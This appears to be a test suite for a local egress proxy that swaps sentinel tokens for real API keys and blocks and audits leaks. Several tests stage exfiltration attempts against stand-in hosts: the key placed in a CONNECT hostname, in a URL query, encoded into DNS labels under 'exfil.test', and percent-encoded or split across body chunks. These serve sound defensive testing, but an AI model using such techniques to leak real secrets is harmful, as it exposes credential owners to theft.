/**
 * Credentials through a real bundle on loopback: curl, node (NODE_EXTRA_CA_CERTS), bun fetch,
 * git and python send the sentinel; the upstream (the test's own, own CA) sees the real value.
 * Every canary path is refused and audited; upstream_proxy carries opaque tunnels too.
 */
import { expect, test } from "bun:test";
import { execFile, execFileSync } from "node:child_process";
import { connect } from "node:net";
import { connect as tlsConnect } from "node:tls";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createCa } from "../../../src/bundle/bundle-ca.ts";
import { bundleMaterial } from "../../../src/bundle/credential-material.ts";
import type { CredentialSpec } from "../../../src/core/credentials.ts";
import { STAND_IN, startBundle, rawExchange, type TestBundle } from "../../helpers/bundle.ts";
import { tempDir } from "../../helpers/cli.ts";
import { dnsQuery } from "../../helpers/dns.ts";
import { bodyRecordingServer, countingHttpServer, gitHttpsServer, tlsCredentials } from "../../helpers/servers.ts";
import { recordingUpstream, upgradeUpstream, upstreamProxy } from "../../helpers/terminator.ts";

const resolve = async (name: string) => (name.endsWith(".test") ? [STAND_IN] : Promise.reject(new Error("ENOTFOUND")));
const REAL = `sk-ant-api03-${"R3al".repeat(23)}AA`;
const GH_REAL = `ghp_${"G1t".repeat(12)}`;
const bottleCa = await createCa("creds-test");
const spec = (name: string, hosts: string[], header: string, schemes: CredentialSpec["schemes"] = []): CredentialSpec => ({ name, source: { kind: "env", name }, hosts, header, schemes });

interface Setup {
  readonly bundle: TestBundle;
  readonly sentinel: string;
  readonly ghSentinel: string;
  readonly caFile: string;
  readonly events: () => Record<string, unknown>[];
}

async function setup(allow: string[], config: object = {}, upstreamCa: string[] = [], proxyAuth?: string): Promise<Setup> {
  const specs = [spec("ANTHROPIC_API_KEY", ["api.test"], "x-api-key"), spec("GH_TOKEN", ["git.test"], "authorization", ["bearer", "basic"])];
  const sentinel = `sk-ant-api03-${"S3nt".repeat(23)}AA`;
  const ghSentinel = `ghp_${"S3n".repeat(12)}`;
  const material = bundleMaterial({ specs, values: new Map([["ANTHROPIC_API_KEY", REAL], ["GH_TOKEN", GH_REAL]]), sentinels: { ANTHROPIC_API_KEY: sentinel, GH_TOKEN: ghSentinel }, inspect: [], ca: bottleCa, upstreamCa, ...(proxyAuth ? { upstreamProxyAuthorization: proxyAuth } : {}) });
  const bundle = await startBundle(allow, { resolve }, { config, files: { "credentials.json": JSON.stringify(material) } });
  const caFile = join(tempDir("creds"), "bottle-ca.pem");
  writeFileSync(caFile, bottleCa.certificate);
  const events = () => readFileSync(join(bundle.dir, "audit.jsonl"), "utf8").trim().split("\n").map((line) => JSON.parse(line));
  return { bundle, sentinel, ghSentinel, caFile, events };
}

function run(command: string, args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((done) => {
    execFile(command, args, { env: { PATH: process.env["PATH"] ?? "", ...env } }, (error, stdout, stderr) => done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }));
  });
}

test("curl, node, bun fetch and python send the sentinel; the upstream sees the real key each time", async () => {
  const upstream = await recordingUpstream("api.test");
  const s = await setup([`api.test:${upstream.port}`], {}, [upstream.caPem]);
  const url = `https://api.test:${upstream.port}/v1/messages`;
  const proxy = `http://127.0.0.1:${s.bundle.ports.proxy}`;
  await run("curl", ["-sS", "--noproxy", "", "--proxy", proxy, "--cacert", s.caFile, "-H", `x-api-key: ${s.sentinel}`, `${url}?via=curl`]);
  const node = `const http=require("http"),tls=require("tls");http.request({host:"127.0.0.1",port:${s.bundle.ports.proxy},method:"CONNECT",path:"api.test:${upstream.port}"}).on("connect",(r,sock)=>{const t=tls.connect({socket:sock,servername:"api.test"},()=>t.write("GET /v1/messages?via=node HTTP/1.1\\r\\nHost: api.test:${upstream.port}\\r\\nx-api-key: "+process.env.ANTHROPIC_API_KEY+"\\r\\nConnection: close\\r\\n\\r\\n"));t.on("data",()=>{});t.on("error",(e)=>{console.error(e.message);process.exit(1)})}).end();`;
  const fromNode = await run("node", ["-e", node], { NODE_EXTRA_CA_CERTS: s.caFile, ANTHROPIC_API_KEY: s.sentinel });
  expect(fromNode.stderr).toBe("");
  await fetch(`${url}?via=bun`, { headers: { "x-api-key": s.sentinel }, proxy, tls: { ca: bottleCa.certificate } } as RequestInit).then((r) => r.text());
  const python = `import os,urllib.request,ssl\nctx=ssl.create_default_context(cafile=os.environ["CA"])\nh=urllib.request.ProxyHandler({"https":"${proxy}"})\no=urllib.request.build_opener(h,urllib.request.HTTPSHandler(context=ctx))\no.open(urllib.request.Request("${url}?via=python",headers={"x-api-key":os.environ["ANTHROPIC_API_KEY"]})).read()`;
  const fromPython = await run("python3", ["-c", python], { CA: s.caFile, ANTHROPIC_API_KEY: s.sentinel });
  expect(fromPython.stderr).toBe("");
  expect(upstream.seen.map((seen) => [seen.url, seen.headers["x-api-key"]])).toEqual(["curl", "node", "bun", "python"].map((via) => [`/v1/messages?via=${via}`, REAL]));
  await s.bundle.audit.flushed();
  expect(s.events().filter((event) => event.kind === "tls").map((event) => [event.path, event.status])).toEqual(Array(4).fill(["/v1/messages", 200]));
  expect(readFileSync(join(s.bundle.dir, "audit.jsonl"), "utf8")).not.toContain(REAL);
});

test("git over https sends the GH_TOKEN sentinel as a Basic password; the server gets the real token", async () => {
  const root = tempDir("git");
  const git = (args: string[]) => execFileSync("git", args, { cwd: root, env: { PATH: process.env["PATH"] ?? "", HOME: root } });
  git(["init", "--quiet", "--bare", "repo.git"]);
  const server = await gitHttpsServer("git.test", root);
  const s = await setup([`git.test:${server.port}`], {}, [server.caPem]);
  const basic = Buffer.from(`x-access-token:${s.ghSentinel}`).toString("base64");
  const result = await run("git", ["-c", `http.proxy=http://127.0.0.1:${s.bundle.ports.proxy}`, "-c", `http.sslCAInfo=${s.caFile}`, "-c", `http.extraHeader=Authorization: Basic ${basic}`, "ls-remote", `https://git.test:${server.port}/repo.git`], { HOME: root, GIT_CONFIG_NOSYSTEM: "1" });
  expect(result.stderr).toBe("");
  expect(server.authorizations).toEqual([`Basic ${Buffer.from(`x-access-token:${GH_REAL}`).toString("base64")}`]);
});

test("canaries: in a CONNECT authority, a plain-HTTP URL and a DNS name — refused, audited by name, counted in /status", async () => {
  const target = await countingHttpServer();
  const s = await setup([`plain.test:${target.port}`, "api.test"]);
  const connect = await rawExchange(s.bundle.ports.proxy, `CONNECT ${s.sentinel.toLowerCase().replace(/_/g, "")}.api.test:443 HTTP/1.1\r\n\r\n`);
  expect(connect).toStartWith("HTTP/1.1 403");
  expect(connect).toContain("X-Claude-Bottle-Rule: canary");
  const plain = await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/?k=${s.sentinel} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
  expect(plain).toStartWith("HTTP/1.1 403");
  const labels = s.sentinel.replace(/[^A-Za-z0-9]/g, "").match(/.{1,50}/g)!.join(".");
  const { createSocket } = await import("node:dgram");
  const udp = createSocket("udp4");
  await new Promise<void>((done) => {
    udp.once("message", () => done());
    udp.send(dnsQuery(`${labels}.exfil.test`), s.bundle.ports.dns!, "127.0.0.1");
  });
  udp.close();
  expect(target.hits()).toBe(0);
  const status = JSON.parse((await s.bundle.supervise("GET", "/status")).body);
  expect(status.counters.canaryHits).toBe(3);
  expect(status.canaries).toEqual({ ANTHROPIC_API_KEY: 3 });
  await s.bundle.audit.flushed();
  expect(s.events().filter((event) => event.canary).map((event) => [event.kind, event.rule, event.canary])).toEqual([
    ["connect", "canary", "ANTHROPIC_API_KEY"], ["http", "canary", "ANTHROPIC_API_KEY"], ["dns", "canary", "ANTHROPIC_API_KEY"],
  ]);
});

test("on_canary = stop: after one hit every request is refused, also on hosts that were allowed", async () => {
  const target = await countingHttpServer();
  const s = await setup([`plain.test:${target.port}`], { onCanary: "stop" });
  const ok = `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`;
  expect(await rawExchange(s.bundle.ports.proxy, ok)).toStartWith("HTTP/1.1 200");
  await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/${s.ghSentinel} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
  const after = await rawExchange(s.bundle.ports.proxy, ok);
  expect(after).toStartWith("HTTP/1.1 403");
  expect(after).toContain("canary-stop");
  expect(target.hits()).toBe(1);
});

test("DLP on plain HTTP: a provider key in a body is refused and never completes upstream", async () => {
  const target = await countingHttpServer();
  const s = await setup([`plain.test:${target.port}`]);
  const body = `{"k":"AKIA${"QRST2345".repeat(2)}"}`;
  const answer = await rawExchange(s.bundle.ports.proxy, `POST http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
  expect(answer).toStartWith("HTTP/1.1 403");
  expect(answer).toContain("aws-access-key-id");
  expect(target.hits()).toBe(0);
});

test("upstream_proxy: opaque tunnels and plain HTTP go through the operator's proxy by name", async () => {
  const target = await countingHttpServer();
  const corporate = await upstreamProxy(target.port);
  const s = await setup([`plain.test:${target.port}`, `opaque.test:${target.port}`], { upstreamProxy: `http://127.0.0.1:${corporate.port}` });
  const plain = await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
  expect(plain).toStartWith("HTTP/1.1 200");
  const tunnel = await rawExchange(s.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: opaque.test\r\nConnection: close\r\n\r\n`, /reached/);
  expect(tunnel).toContain("reached");
  expect(corporate.asked).toEqual([`plain.test:${target.port}`, `opaque.test:${target.port}`]);
  expect(target.hits()).toBe(2);
});

const percentAll = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

test("plain HTTP: a sentinel split between two body chunks is refused, and no byte of it ever left", async () => {
  const target = await bodyRecordingServer();
  const s = await setup([`plain.test:${target.port}`]);
  const padding = "p".repeat(64 * 1024);
  const [first, second] = [`${padding}k=${s.sentinel.slice(0, 40)}`, `${s.sentinel.slice(40)}&end`];
  const socket = connect(s.bundle.ports.proxy, "127.0.0.1");
  let answer = "";
  socket.on("data", (chunk: Buffer) => (answer += chunk.toString("latin1")));
  const closed = new Promise((done) => socket.on("close", done));
  const chunk = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
  socket.write(`POST http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: chunked\r\n\r\n${chunk(first)}`);
  await target.waitFor(60_000); // the padding went on: the first chunk was passed, less what is held back
  socket.end(`${chunk(second)}0\r\n\r\n`);
  await closed;
  expect(answer).toStartWith("HTTP/1.1 403");
  expect(target.received().length).toBeGreaterThanOrEqual(60_000);
  expect(target.received().toString("latin1")).not.toContain("k=sk-ant");
});

test("percent-encoded sentinels in bodies: refused as canaries on plain HTTP and inside a terminated connection", async () => {
  const target = await bodyRecordingServer();
  const upstream = await recordingUpstream("api.test");
  const s = await setup([`plain.test:${target.port}`, `api.test:${upstream.port}`], { dlp: "off" }, [upstream.caPem]);
  const body = `k=${percentAll(s.sentinel)}`;
  const plain = await rawExchange(s.bundle.ports.proxy, `POST http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
  expect(plain).toStartWith("HTTP/1.1 403");
  expect(target.received().toString("latin1")).not.toContain("%73%6b");
  const proxy = `http://127.0.0.1:${s.bundle.ports.proxy}`;
  const init = { method: "POST", body: `p=${percentAll(s.sentinel)}`, headers: { "x-api-key": s.sentinel } };
  const answer = await fetch(`https://api.test:${upstream.port}/v1/messages`, { ...init, proxy, tls: { ca: bottleCa.certificate } } as RequestInit);
  expect([answer.status, answer.headers.get("x-claude-bottle-rule")]).toEqual([403, "canary"]);
  expect(upstream.seen).toEqual([]);
  const status = JSON.parse((await s.bundle.supervise("GET", "/status")).body);
  expect(status.canaries).toEqual({ ANTHROPIC_API_KEY: 2 });
});

/** A WebSocket-style handshake through the bundle's CONNECT, then "ping"; resolves all the client read. */
function upgradeThrough(proxyPort: number, authority: string, apiKey: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const raw = connect(proxyPort, "127.0.0.1", () => raw.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`));
    raw.once("data", (answer: Buffer) => {
      if (!answer.toString().startsWith("HTTP/1.1 200")) return reject(new Error(answer.toString()));
      const tls = tlsConnect({ socket: raw, servername: authority.split(":")[0], ca: bottleCa.certificate }, () => {
        const key = Buffer.from("sixteen byte key").toString("base64");
        tls.write(`GET /ws?t=1 HTTP/1.1\r\nHost: ${authority}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\nx-api-key: ${apiKey}\r\n\r\n`);
      });
      let read = "";
      tls.on("data", (chunk: Buffer) => {
        read += chunk.toString("latin1");
        if (read.includes("\r\n\r\n") && !read.includes("ping")) tls.write("ping");
        if (read.endsWith("ping")) tls.end();
      });
      tls.on("close", () => resolve(read));
      tls.on("error", reject);
    });
  });
}

test("Upgrade inside a terminated connection: refused by default, relayed (sentinel swapped) for an [egress] upgrade host", async () => {
  const upstream = await upgradeUpstream("api.test");
  const refusedSetup = await setup([`api.test:${upstream.port}`], {}, [upstream.caPem]);
  const refused = await upgradeThrough(refusedSetup.bundle.ports.proxy, `api.test:${upstream.port}`, refusedSetup.sentinel);
  expect(refused).toStartWith("HTTP/1.1 403");
  expect(refused).toContain("X-Claude-Bottle-Rule: upgrade");
  expect(upstream.upgrades).toEqual([]);
  const s = await setup([`api.test:${upstream.port}`], { upgrade: ["api.test"] }, [upstream.caPem]);
  const relayed = await upgradeThrough(s.bundle.ports.proxy, `api.test:${upstream.port}`, s.sentinel);
  expect(relayed).toStartWith("HTTP/1.1 101");
  expect(relayed).toEndWith("\r\n\r\nping");
  expect(upstream.upgrades.map((headers) => [headers.upgrade, headers["x-api-key"]])).toEqual([["websocket", REAL]]);
  const canary = await upgradeThrough(s.bundle.ports.proxy, `api.test:${upstream.port}`, "sk-ant-api03-someone-elses");
  expect(canary).toContain("X-Claude-Bottle-Rule: foreign-credential");
  expect(upstream.upgrades.length).toBe(1);
  const why = JSON.parse((await s.bundle.supervise("GET", `/why?host=api.test&port=${upstream.port}`)).body);
  expect(why.tls).toEqual({ terminated: true, upgrade: true });
  await s.bundle.audit.flushed();
  expect(s.events().filter((event) => event.kind === "tls").map((event) => [event.path, event.decision, event.status, event.rule])).toEqual([
    ["/ws", "allow", 101, `api.test:${upstream.port}`], ["/ws", "deny", 403, "foreign-credential"],
  ]);
});

test("upstream_proxy with a user: every CONNECT to it carries Proxy-Authorization from the 0600 material only", async () => {
  const target = await countingHttpServer();
  const basic = `Basic ${Buffer.from("corp-user:Pr0xy-pa55word-xyz").toString("base64")}`;
  const corporate = await upstreamProxy(target.port, basic);
  const proxyUrl = `http://127.0.0.1:${corporate.port}`;
  const s = await setup([`plain.test:${target.port}`, `opaque.test:${target.port}`], { upstreamProxy: proxyUrl }, [], basic);
  const plain = await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
  expect(plain).toStartWith("HTTP/1.1 200");
  const tunnel = await rawExchange(s.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: opaque.test\r\nConnection: close\r\n\r\n`, /reached/);
  expect(tunnel).toContain("reached");
  expect([corporate.asked, corporate.refused(), target.hits()]).toEqual([[`plain.test:${target.port}`, `opaque.test:${target.port}`], 0, 2]);
  // Without the material's credentials the same proxy refuses, and the agent is told the CONNECT failed.
  const bare = await setup([`opaque.test:${target.port}`], { upstreamProxy: proxyUrl });
  expect(await rawExchange(bare.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\n`)).toStartWith("HTTP/1.1 502");
  expect(corporate.refused()).toBe(1);
  await Promise.all([s.bundle.audit.flushed(), bare.bundle.audit.flushed()]);
  for (const dir of [s.bundle.dir, bare.bundle.dir]) {
    for (const file of ["bundle.json", "audit.jsonl"]) expect(readFileSync(join(dir, file), "utf8")).not.toContain(basic.slice(6));
  }
});

test("fresh client connections to a credential host share the bundle's verified upstream connection", async () => {
  const upstream = await recordingUpstream("api.test");
  const s = await setup([`api.test:${upstream.port}`], {}, [upstream.caPem]);
  const args = ["-sS", "--noproxy", "", "--proxy", `http://127.0.0.1:${s.bundle.ports.proxy}`, "--cacert", s.caFile, "-H", `x-api-key: ${s.sentinel}`];
  for (const via of ["one", "two", "three"]) expect((await run("curl", [...args, `https://api.test:${upstream.port}/v1/${via}`])).stderr).toBe("");
  expect(upstream.seen.map((seen) => [seen.url, seen.headers["x-api-key"]])).toEqual(["one", "two", "three"].map((via) => [`/v1/${via}`, REAL]));
  expect(upstream.connections()).toBe(1);
});

test("an https:// upstream_proxy: verified against upstream_ca, CONNECT inside its TLS, for tunnels, plain HTTP and terminated hosts", async () => {
  const target = await countingHttpServer();
  const upstream = await recordingUpstream("api.test");
  const { key, cert, caPem: proxyCa } = await tlsCredentials("127.0.0.1");
  const routes = new Map([[`api.test:${upstream.port}`, upstream.port]]);
  const corporate = await upstreamProxy(target.port, undefined, { key, cert }, routes);
  const allow = [`plain.test:${target.port}`, `opaque.test:${target.port}`, `api.test:${upstream.port}`];
  const s = await setup(allow, { upstreamProxy: `https://127.0.0.1:${corporate.port}` }, [proxyCa, upstream.caPem]);
  expect(await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`)).toStartWith("HTTP/1.1 200");
  const tunnel = await rawExchange(s.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: opaque.test\r\nConnection: close\r\n\r\n`, /reached/);
  expect(tunnel).toContain("reached");
  const proxy = `http://127.0.0.1:${s.bundle.ports.proxy}`;
  const answer = await run("curl", ["-sS", "--noproxy", "", "--proxy", proxy, "--cacert", s.caFile, "-H", `x-api-key: ${s.sentinel}`, `https://api.test:${upstream.port}/v1/through-tls-proxy`]);
  expect(answer.stderr).toBe("");
  expect(upstream.seen.map((seen) => [seen.url, seen.headers["x-api-key"]])).toEqual([["/v1/through-tls-proxy", REAL]]);
  expect(corporate.asked).toEqual([`plain.test:${target.port}`, `opaque.test:${target.port}`, `api.test:${upstream.port}`]);
  // A proxy whose certificate upstream_ca does not vouch for is never spoken to: nothing is asked of it.
  const untrusted = await setup([`opaque.test:${target.port}`], { upstreamProxy: `https://127.0.0.1:${corporate.port}` }, [upstream.caPem]);
  expect(await rawExchange(untrusted.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\n`)).toStartWith("HTTP/1.1 502");
  expect(corporate.asked).toHaveLength(3);
});
